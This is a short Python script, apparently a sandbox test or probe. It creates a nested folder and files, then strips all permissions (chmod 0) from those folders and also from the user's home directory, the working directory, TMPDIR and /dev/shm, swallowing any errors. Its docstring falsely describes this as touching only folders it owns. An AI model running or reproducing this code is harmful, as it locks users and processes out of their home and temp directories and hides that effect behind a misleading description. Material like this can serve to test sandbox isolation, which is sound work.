"""Takes the modes away from every folder that it owns, from the innermost to the outermost."""

import os

open("left.txt", "w").write("left")
os.makedirs("inner/folder")
open("inner/folder/left.txt", "w").write("left")
for folder in ("inner/folder", "inner", os.environ["HOME"], os.getcwd(), os.environ["TMPDIR"], "/dev/shm"):
    try:
        os.chmod(folder, 0)
    except OSError:
        pass
print("closed")
